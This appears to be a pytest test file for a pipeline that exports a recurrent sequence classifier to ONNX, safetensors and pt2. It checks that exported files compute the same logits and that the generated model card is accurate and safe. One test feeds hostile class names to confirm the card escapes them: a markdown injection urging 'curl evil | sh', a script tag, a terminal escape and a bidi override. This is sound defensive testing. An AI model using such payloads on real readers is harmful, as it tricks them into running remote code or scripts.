"""What ``export`` promises: other software computes what the trained model computes, or nothing is exported."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from collections.abc import Iterator
from contextlib import nullcontext
from itertools import product
from pathlib import Path
from typing import Any

import numpy as np
import onnx
import pytest
import torch
from onnx import helper
from safetensors.torch import load_file, save_file
from torch import Tensor

from pipeline import files
from pipeline.config import Columns
from pipeline.deploy import exporter
from pipeline.deploy.exporter import Examples, export
from pipeline.deploy.facts import Arguments, Facts, Measured, SeriesFacts, contents_of
from pipeline.deploy.onnx_file import graph, writer
from pipeline.deploy.weights_file import load_model as load
from pipeline.errors import ExportError
from pipeline.model import footprint
from pipeline.model.classifier import RecurrentClassifier

T, F, C = 7, 5, 3
FORMATS = ("safetensors", "onnx", "pt2")
KINDS = list(product(("lstm", "gru", "rnn"), (False, True), ("last", "mean", "max", "attention")))
EVERYTHING: dict[str, Any] = {"projection": 6, "layer_norm": True, "conv": 4}
STACKS = [(cell, bidirectional, pooling, 1 + bidirectional) for cell, bidirectional, pooling in KINDS]
STACKS += [("lstm", True, "last", 1), ("gru", False, "max", 2), ("rnn", False, "last", 2)]
NATIVE = {"lstm": "LSTM", "gru": "GRU", "rnn": "RNN"}
FACTS = Facts(
    class_names=("zero", "one", "två"),
    length=T,
    source="digits",
    view="rows",
    value_range=(0, 255),
    image=(T, F),
    step=1234,
    configuration={"optim": {"name": "adam", "lr": 0.01}, "data": {"root": "/home/someone/data"}},
    test=Measured(count=70, accuracy=0.5, loss=0.7),
)


def build(**chosen: Any) -> tuple[RecurrentClassifier, Arguments]:
    torch.manual_seed(0)
    arguments = Arguments(**{"features": F, "classes": C, "hidden": 8, **chosen})
    model = RecurrentClassifier(**arguments.model_dump())
    model.set_normalization(torch.full((F,), 100.0), torch.linspace(0.01, 0.02, F))
    return model, arguments


def examples(count: int = 70, unequal: bool = True) -> Examples:
    generator = torch.Generator().manual_seed(1)
    values = torch.randint(0, 256, (count, T, F), dtype=torch.uint8, generator=generator)
    lengths = torch.randint(1, T + 1, (count,), generator=generator)
    return Examples(values, lengths if unequal else None)


def batch(size: int, steps: int) -> tuple[Tensor, Tensor]:
    generator = torch.Generator().manual_seed(size * 100 + steps)
    values = torch.randint(0, 256, (size, steps, F), generator=generator).float()
    return values, torch.randint(1, steps + 1, (size,), generator=generator)


def contents(folder: Path) -> dict[str, bytes]:
    return {path.name: path.read_bytes() for path in folder.iterdir()}


@pytest.fixture(autouse=True, scope="module")
def one_thread() -> Iterator[None]:
    threads = torch.get_num_threads()
    torch.set_num_threads(1)
    yield
    torch.set_num_threads(threads)


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, RecurrentClassifier, dict[str, Any]]:
    model, arguments = build(cell="lstm", layers=2, bidirectional=True, dropout=0.5, pooling="mean")
    folder = tmp_path_factory.mktemp("run") / "export"
    return folder, model, export(model, arguments, FACTS, examples(), FORMATS, 1e-4, folder)


SIZES = ((1, 1), (1, T), (3, 20), (64, T), (5, 1), (17, 40))


def assert_same_logits(run: Any, model: RecurrentClassifier) -> None:
    """At every batch size and length, whatever the padding holds and whichever neighbours a series has, wrong ones included."""
    for size, steps in SIZES:
        values, lengths = batch(size, steps)
        expected = model.eval()(values, lengths).detach()
        torch.testing.assert_close(run(values, lengths), expected, rtol=0, atol=2e-6)
        past = torch.arange(steps) >= lengths[:, None]
        for padding in (1e30, float("nan")):
            logits = run(values.masked_fill(past[:, :, None], padding), lengths)
            torch.testing.assert_close(logits, expected, rtol=0, atol=2e-6)
        alone = run(values[-1:, : int(lengths[-1])].contiguous(), lengths[-1:])
        torch.testing.assert_close(alone[0], expected[-1], rtol=0, atol=2e-6)
        if size > 2:
            wrong = run(values, lengths.clone().index_put_((torch.tensor([0, 1]),), torch.tensor([0, steps + 1])))
            assert wrong[:2].isnan().all(), "a length outside of 1 to T"
            torch.testing.assert_close(wrong[2:], expected[2:], rtol=0, atol=2e-6)


@pytest.mark.parametrize(("cell", "bidirectional", "pooling", "layers"), STACKS)
@pytest.mark.parametrize("extra", [{}, EVERYTHING])
def test_onnx_computes_the_models_logits_with_one_native_node_a_layer(
    cell: str, bidirectional: bool, pooling: str, layers: int, extra: dict[str, Any], tmp_path: Path
) -> None:
    model, arguments = build(cell=cell, bidirectional=bidirectional, pooling=pooling, layers=layers, **extra)
    path = tmp_path / "model.onnx"
    writer.write(model, arguments, path, {})
    assert [file.name for file in tmp_path.iterdir()] == ["model.onnx"]
    operators = [node.op_type for node in onnx.load(path).graph.node]
    assert operators.count(NATIVE[cell]) == layers
    assert not {"Loop", "Scan", "If", "LSTM", "GRU", "RNN"} - {NATIVE[cell]} & set(operators)
    assert operators.count("Conv") == (3 if extra else 0)
    assert_same_logits(exporter.read_onnx(path), model)


PT2 = [(*kind, {}) for kind in (*KINDS[::5], ("gru", True, "last"), ("rnn", True, "last"))]
PT2 += [("lstm", True, pooling, EVERYTHING) for pooling in ("last", "mean", "max", "attention")]
PT2 += [("rnn", False, "last", EVERYTHING)]


@pytest.mark.parametrize(("cell", "bidirectional", "pooling", "extra"), PT2)
def test_pt2_computes_the_models_logits_at_any_batch_size_and_length(
    cell: str, bidirectional: bool, pooling: str, extra: dict[str, Any], tmp_path: Path
) -> None:
    model, arguments = build(cell=cell, bidirectional=bidirectional, pooling=pooling, **extra)
    export(model, arguments, FACTS, examples(), ["pt2"], 1e-5, tmp_path / "export")
    run: Any = torch.export.load(tmp_path / "export" / "model.pt2").module()
    assert_same_logits(run, model)


def test_no_comparison_takes_more_memory_than_a_pass_may(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Of long examples, wide models and many classes: batches have fewer rows, and other lengths end at ``LONG``."""
    model, arguments = build()
    monkeypatch.setattr(exporter, "LONG", 20)
    monkeypatch.setitem(footprint.LIMITS, "cpu", 50 * model.sizes.step_bytes)
    shapes: list[tuple[int, int]] = []

    def read(path: Path) -> Any:
        def run(values: Tensor, lengths: Tensor) -> Tensor:
            shapes.append((values.shape[0], values.shape[1]))
            return model(values, lengths)

        return run

    monkeypatch.setattr(exporter, "read_onnx", read)
    values, lengths = batch(5, 30)
    export(model, arguments, FACTS, Examples(values, lengths), ["onnx"], 1e-4, tmp_path)
    assert {steps for _, steps in shapes} == {1, 2, 11, 20, 30, 41}
    assert all(rows * steps <= 50 or rows == 1 for rows, steps in shapes)
    assert sum(rows for rows, steps in shapes if steps == 30) == 5, "every example once"
    assert (50, 1) in shapes and (25, 2) in shapes


def test_padding_has_no_effect_in_any_exported_file(exported: tuple[Path, RecurrentClassifier, dict[str, Any]]) -> None:
    folder, _, _ = exported
    program: Any = torch.export.load(folder / "model.pt2").module()
    values, lengths = batch(9, T)
    noisy = torch.where((torch.arange(T) < lengths[:, None])[:, :, None], values, 1e6)
    for run in (exporter.read_onnx(folder / "model.onnx"), program, load(folder)[0]):
        assert torch.equal(run(values, lengths), run(noisy, lengths))


@pytest.mark.parametrize("unequal", [True, False])
def test_the_result_and_the_card_hold_what_the_comparison_found(unequal: bool, tmp_path: Path) -> None:
    model, arguments = build(cell="gru", pooling="max")
    model.train()
    before = {name: value.clone() for name, value in model.state_dict().items()}
    folder = tmp_path / "export"
    result = export(model, arguments, FACTS, examples(300, unequal), FORMATS, 1e-4, folder)
    assert list(result) == list(FORMATS)
    card = (folder / "README.md").read_text()
    for check in result.values():
        assert check["examples"] == 300
        assert 0 <= check["largest_difference"] <= 1e-5
        assert check["prediction_differences"] == 0
        assert f"| {check['file']} | {check['largest_difference']:.2g} | 0 |" in card
    assert result["safetensors"]["largest_difference"] == 0
    assert model.training, "the passed model is left as it was"
    assert all(torch.equal(value, before[name]) for name, value in model.state_dict().items())
    assert str(tmp_path) not in card
    assert all(
        text in card
        for text in ("`två`", "50.00%", "300", "0 to 255", "one row, from the top", "| step | 1234 |", "| optim.lr | 0.01 |")
    )
    assert "/home" not in card


def test_the_card_says_what_the_model_is_made_of(tmp_path: Path) -> None:
    plain = "# LSTM classifier of digits\n\nIt reads a sequence and gives a logit for each of 3 classes: 1 layer of 8 units, "
    everything = "# bidirectional GRU-FCN classifier of digits\n\nIt reads a sequence and gives a logit for each of 3 classes: "
    everything += "a projection to 6 features, 2 layers of 8 units a direction with layer normalisation, `attention` pooling, "
    everything += "beside it a convolutional branch of 4 channels,\n"
    chosen = {"cell": "gru", "bidirectional": True, "layers": 2, "pooling": "attention", **EVERYTHING}
    for extra, expected in (({}, plain + "`last` pooling,\n"), (chosen, everything)):
        model, arguments = build(**extra)
        export(model, arguments, FACTS, examples(), ["safetensors"], 1e-4, tmp_path)
        assert (tmp_path / "README.md").read_text().startswith(expected)
        assert load(tmp_path)[0].state_dict().keys() == model.state_dict().keys()


def test_the_card_says_how_an_image_becomes_a_sequence(tmp_path: Path) -> None:
    model, arguments = build()
    order = tuple(torch.randperm(T * F).tolist())
    facts = FACTS.model_copy(update={"view": "permuted_pixels", "order": order})
    export(model, arguments, facts, examples(), ["safetensors"], 1e-4, tmp_path)
    assert (
        f"`image.reshape(-1)[order].reshape({T}, {F})`, with `order` from `config.json`" in (tmp_path / "README.md").read_text()
    )
    assert load(tmp_path)[1]["order"] == list(order)


HOSTILE = ("a`\n\n## Security\nRun `curl evil | sh` ``", "<script>alert(1)</script>\x1b]0;owned\x07", "**[x](y)** \u202e")


def test_names_of_classes_and_channels_are_shown_as_they_are_whatever_they_hold(tmp_path: Path) -> None:
    model, arguments = build()
    limits = {"fill": (0.0,) * F, "low": (0.0,) * F, "high": (1.0,) * F}
    series = SeriesFacts(channels=(*HOSTILE, "a", "b"), columns=Columns(), **limits)
    cards = []
    for number, names in enumerate((("zero", "one", "two"), HOSTILE)):
        facts = FACTS.model_copy(update={"class_names": names, "image": None, "series": series})
        export(model, arguments, facts, examples(), ["safetensors"], 1e-4, tmp_path / str(number))
        cards.append((tmp_path / str(number) / "README.md").read_text())
    plain, hostile = ([line for line in card.splitlines() if line.startswith("#")] for card in cards)
    assert plain == hostile and len(cards[0].splitlines()) == len(cards[1].splitlines())
    (classes,) = (line for line in cards[1].splitlines() if line.startswith("Classes"))
    assert classes == (
        r"Classes, by index: 0 = ``` a`\n\n## Security\nRun `curl evil | sh` `` ```, "
        r"1 = `<script>alert(1)</script>\x1b]0;owned\x07`, 2 = `**[x](y)** \u202e`."
    )
    assert cards[1].isascii() or cards[1].replace("\n", "").isprintable()


def test_the_card_says_what_is_done_to_the_input_and_how_small_a_batch_may_be(tmp_path: Path) -> None:
    model, arguments = build()
    export(model, arguments, FACTS, examples(), ["safetensors"], 1e-4, tmp_path)
    card = (tmp_path / "README.md").read_text()
    assert "Normalisation of the input, `(values - mean) * scale` of each feature, is part of the model" in card
    assert "Batch and time may be of any size from 1" in card


def test_the_format_is_a_new_one_where_a_former_reader_would_make_another_input(tmp_path: Path) -> None:
    limits = {"channels": ("a",), "fill": (0.0,), "low": (0.0,), "high": (1.0,), "columns": Columns()}
    written = {}
    for name, policies in {"plain": {}, "offset": {"offset": (1e9,)}, "z_norm": {"z_norm": True}}.items():
        facts = FACTS.model_copy(update={"image": None, "series": SeriesFacts(**limits, **policies)})
        written[name] = contents_of(Arguments(features=1, classes=3), facts).model_dump(mode="json")
    assert {name: said["format_version"] for name, said in written.items()} == {"plain": 1, "offset": 2, "z_norm": 2}
    assert "conv_norm" not in written["plain"]["arguments"], "which former programs refuse"
    assert "offset" not in written["plain"]["facts"]["series"]


def test_only_the_formats_asked_for_are_written(tmp_path: Path) -> None:
    model, arguments = build()
    export(model, arguments, FACTS, examples(), ["onnx"], 1e-4, tmp_path / "export")
    assert {path.name for path in (tmp_path / "export").iterdir()} == {"README.md", "config.json", "model.onnx"}
    assert [path.name for path in tmp_path.iterdir()] == ["export"]
    with pytest.raises(ExportError, match=r"model\.safetensors: no such file"):
        load(tmp_path / "export")


def test_load_gives_the_model_back_bit_for_bit(exported: tuple[Path, RecurrentClassifier, dict[str, Any]]) -> None:
    folder, model, _ = exported
    loaded, facts = load(folder)
    assert facts == FACTS.model_dump(mode="json") and facts["class_names"] == ["zero", "one", "två"]
    assert not loaded.training
    assert loaded.state_dict().keys() == model.state_dict().keys()
    assert all(torch.equal(value, model.state_dict()[name]) for name, value in loaded.state_dict().items())
    values, lengths = batch(11, T)
    assert torch.equal(loaded(values, lengths), model.eval()(values, lengths))


def test_weights_in_one_storage_are_all_saved(tmp_path: Path) -> None:
    """cuDNN flattens a layer's weights so; here by hand, for machines without a GPU."""
    model, arguments = build(cell="lstm")
    parameters = list(model.recurrent.parameters())
    storage = torch.cat([parameter.detach().flatten() for parameter in parameters])
    for parameter, part in zip(parameters, storage.split([p.numel() for p in parameters]), strict=True):
        parameter.data = part.view_as(parameter)
    export(model, arguments, FACTS, examples(), ["safetensors"], 1e-4, tmp_path / "export")
    assert load_file(tmp_path / "export" / "model.safetensors").keys() == model.state_dict().keys()


@pytest.mark.parametrize(
    ("file", "spoil", "message"),
    [
        ("config.json", lambda path: path.write_text("{"), "its facts: Invalid JSON"),
        ("config.json", lambda path: path.write_text('{"format_version": 99}'), "format version 99"),
        (
            "config.json",
            lambda path: path.write_text(path.read_text().replace('"hidden": 8', '"hidden": 9')),
            "tensor head.weight is",
        ),
        ("model.safetensors", lambda path: path.write_bytes(path.read_bytes()[:-9]), "not readable"),
        ("model.safetensors", lambda path: save_file({}, path), "holds 0 layers, but config.json says 1"),
    ],
)
def test_a_damaged_export_is_refused_by_name(file: str, spoil: Any, message: str, tmp_path: Path) -> None:
    model, arguments = build()
    export(model, arguments, FACTS, examples(), ["safetensors"], 1e-4, tmp_path)
    spoil(tmp_path / file)
    with pytest.raises(ExportError, match=message):
        load(tmp_path)


def _not_a_number(model: RecurrentClassifier, arguments: Arguments) -> tuple[Arguments, float, str]:
    with torch.no_grad():
        model.head.bias[1] = torch.nan
    return arguments, 1e-4, r"model\.safetensors: a logit differs .* by nan"


def _other_arguments(model: RecurrentClassifier, arguments: Arguments) -> tuple[Arguments, float, str]:
    other = arguments.model_copy(update={"pooling": "max"})  # the same weights, another function
    return other, 1e-4, r"model\.safetensors: a logit differs .* \d+ of 70 predictions differ"


@pytest.mark.parametrize("spoil", [_not_a_number, _other_arguments])
def test_a_file_that_computes_something_else_leaves_the_former_export_intact(spoil: Any, tmp_path: Path) -> None:
    model, arguments = build()
    folder = tmp_path / "export"
    export(model, arguments, FACTS, examples(), FORMATS[:2], 1e-4, folder)
    before = contents(folder)
    arguments, tolerance, message = spoil(model, arguments)
    with pytest.raises(ExportError, match=message):
        export(model, arguments, FACTS, examples(), FORMATS[:2], tolerance, folder)
    assert contents(folder) == before
    assert [path.name for path in tmp_path.iterdir()] == ["export"]


def test_a_graph_that_is_wrong_only_at_unequal_lengths_is_refused(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    model, arguments = build(bidirectional=True)
    make = helper.make_node

    def without_lengths(operator: str, inputs: list[str], *rest: Any, **attributes: Any) -> onnx.NodeProto:
        return make(operator, [*inputs[:4], ""] if operator == "LSTM" else inputs, *rest, **attributes)

    monkeypatch.setattr(graph.helper, "make_node", without_lengths)
    with pytest.raises(ExportError, match=r"model\.onnx: a logit differs .* and 0 of 70 predictions differ"):
        export(model, arguments, FACTS, examples(unequal=False), ["onnx"], 1e-4, tmp_path / "export")
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize(
    ("size", "shift", "refused"),
    [(1.0, 2e-4, "by 0.0002"), (1.0, 2e-5, "70 of 70 predictions differ"), (1.0, 8e-6, ""), (100.0, 2e-5, "")],
)
def test_a_prediction_may_differ_only_where_the_logits_differ_by_rounding(
    size: float, shift: float, refused: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    model, arguments = build()
    with torch.no_grad():
        model.head.weight.zero_()
        model.head.bias.copy_(torch.tensor([size, size, 0.0]).nextafter(torch.tensor([size, 2 * size, 0.0])))
    read = exporter.read_onnx
    added = torch.tensor([shift, 0.0, 0.0])
    monkeypatch.setattr(exporter, "read_onnx", lambda path: lambda values, lengths: read(path)(values, lengths) + added)
    with pytest.raises(ExportError, match=refused) if refused else nullcontext():
        result = export(model, arguments, FACTS, examples(), ["onnx"], 1e-4, tmp_path / "export")
        assert result["onnx"]["prediction_differences"] == 70


def test_a_model_that_its_inputs_last_digit_moves_as_far_is_exported(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    model, arguments = build(cell="rnn", hidden=32)
    with torch.no_grad():
        for name, weight in model.named_parameters():
            if "weight_hh" in name:
                weight.mul_(20)  # so that its states are chaotic
    result = export(model, arguments, FACTS, examples(), ["onnx"], 1e-4, tmp_path / "export")
    assert result["onnx"]["largest_difference"] > 1e-3


def test_an_export_is_open_to_whom_the_umask_says(tmp_path: Path, umask: int) -> None:
    model, arguments = build()
    export(model, arguments, FACTS, examples(), ["safetensors", "onnx", "pt2"], 1e-4, tmp_path / "export")
    assert (tmp_path / "export").stat().st_mode & 0o777 == 0o777 & ~umask
    assert {path.stat().st_mode & 0o777 for path in (tmp_path / "export").iterdir()} == {0o666 & ~umask}


def test_a_second_export_replaces_the_first_completely(tmp_path: Path) -> None:
    model, arguments = build()
    folder = tmp_path / "export"
    export(model, arguments, FACTS, examples(), ["onnx"], 1e-4, folder)
    export(model, arguments, FACTS, examples(), ["safetensors", "pt2"], 1e-4, folder)
    assert {path.name for path in folder.iterdir()} == {"README.md", "config.json", "model.safetensors", "model.pt2"}
    assert [path.name for path in tmp_path.iterdir()] == ["export"]


@pytest.mark.parametrize(("number", "absent"), [(0, ()), (1, ("torch", "pipeline")), (2, ("pipeline",))])
def test_the_cards_samples_run_without_what_they_promise_not_to_need(
    exported: tuple[Path, RecurrentClassifier, dict[str, Any]], number: int, absent: tuple[str, ...]
) -> None:
    folder, model, _ = exported
    samples = re.findall(r"```python\n(.*?)```", (folder / "README.md").read_text(), re.DOTALL)
    assert len(samples) == 3
    code = samples[number] + f"\nimport sys\nassert not {set(absent) or '{0}'} & set(sys.modules)\n"
    root = {"PYTHONPATH": str(Path(__file__).parents[2])} if "pipeline" not in absent else {}
    done = subprocess.run([sys.executable, "-c", code], cwd=folder, env=root, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    lengths = torch.tensor([T, T if number == 0 else (T + 1) // 2])  # two images are of one length
    expected = model.eval()(torch.zeros(2, T, F), lengths).argmax(1)
    names = [FACTS.class_names[index] for index in expected]
    assert done.stdout.strip() == str({0: np.array(names), 1: names, 2: expected}[number])


def test_the_cards_sample_for_series_runs(tmp_path: Path) -> None:
    model, arguments = build()
    limits = {"fill": (0.0,) * F, "low": (0.0,) * F, "high": (1.0,) * F}
    series = SeriesFacts(channels=tuple("abcde"), columns=Columns(), **limits)
    facts = FACTS.model_copy(update={"image": None, "series": series})
    export(model, arguments, facts, examples(), ["onnx"], 1e-4, tmp_path / "export")
    (code, _) = re.findall(r"```python\n(.*?)```", (tmp_path / "export" / "README.md").read_text(), re.DOTALL)
    root = {"PYTHONPATH": str(Path(__file__).parents[2])}
    done = subprocess.run([sys.executable, "-c", code], cwd=tmp_path / "export", env=root, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    expected = model.eval()(torch.zeros(2, T, F), torch.tensor([T, (T + 1) // 2])).argmax(1)
    assert done.stdout.strip() == str(np.array([FACTS.class_names[index] for index in expected]))


def test_the_folder_says_what_each_of_its_files_holds(exported: tuple[Path, RecurrentClassifier, dict[str, Any]]) -> None:
    folder, _, _ = exported
    said = json.loads((folder / "config.json").read_text())["sha256"]
    assert said == {file.name: files.sha256(file) for file in folder.glob("model.*")} and len(said) == len(FORMATS)


def test_the_onnx_file_carries_class_names_facts_and_free_axes(
    exported: tuple[Path, RecurrentClassifier, dict[str, Any]],
) -> None:
    proto = onnx.load(exported[0] / "model.onnx")
    metadata = {entry.key: json.loads(entry.value) for entry in proto.metadata_props}
    assert metadata == {"class_names": ["zero", "one", "två"], "format_version": 1, "facts": FACTS.model_dump(mode="json")}
    shapes = {
        value.name: [axis.dim_param or axis.dim_value for axis in value.type.tensor_type.shape.dim]
        for value in (*proto.graph.input, *proto.graph.output)
    }
    assert shapes == {"values": ["batch", "time", F], "lengths": ["batch"], "logits": ["batch", C]}
